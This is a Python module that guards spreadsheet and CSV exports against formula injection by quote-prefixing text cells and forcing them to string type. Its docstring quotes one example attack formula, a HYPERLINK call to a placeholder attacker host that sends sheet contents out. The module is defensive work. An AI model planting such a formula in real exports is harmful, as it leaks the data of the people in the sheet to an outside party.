"""Spreadsheet-safe exports: every free-text cell is written as text, never as a formula.

Text that a rater, a device or staff typed (comments, tags, staff numbers, names, codes)
ends up in managers' spreadsheets. A cell starting with ``=``, ``+``, ``-`` or ``@`` (or
a tab or CR, which some programs strip first) is run as a formula by Excel, WPS and
LibreOffice — ``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet away. Every
export goes through this module (SPEC §11):

* ``csv_bytes(rows)`` — a CSV file (UTF-8 with BOM, so Excel reads it), each text cell
  passed through ``safe_text``;
* ``append_row(ws, row)`` — one row of an openpyxl sheet; text cells are string cells
  (never formulas) with Excel's quote prefix, so editing the cell keeps it text.

Numbers, dates and ``None`` are written as they are; only ``str`` values are touched.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet program may take as the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """``value`` made safe for a CSV cell: text starting like a formula gets a leading ``'``.

    Non-text values (numbers, dates, None) are returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """``rows`` as a CSV file in UTF-8 with a BOM, every text cell through ``safe_text``."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow(["" if cell is None else safe_text(cell) for cell in row])
    return buf.getvalue().encode("utf-8-sig")


def append_row(ws: Worksheet, row: Sequence) -> None:
    """Append ``row`` to ``ws`` (as ``ws.append`` does) with every text cell a string cell.

    openpyxl would store ``"=…"`` as a formula; here the cell's type is forced to text,
    with the quote prefix Excel itself sets when a user types ``'=…``. Characters an xlsx
    file cannot hold (C0 controls) become U+FFFD rather than failing the whole export.
    """
    cells = []
    for value in row:
        if not isinstance(value, str):
            cells.append(value)
            continue
        # row/column set (append moves the cell): a write-only sheet prints a placeless
        # cell's coordinate while appending it, which fails without them.
        cell = Cell(ws, row=1, column=1, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
        cell.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
        cells.append(cell)
    ws.append(cells)
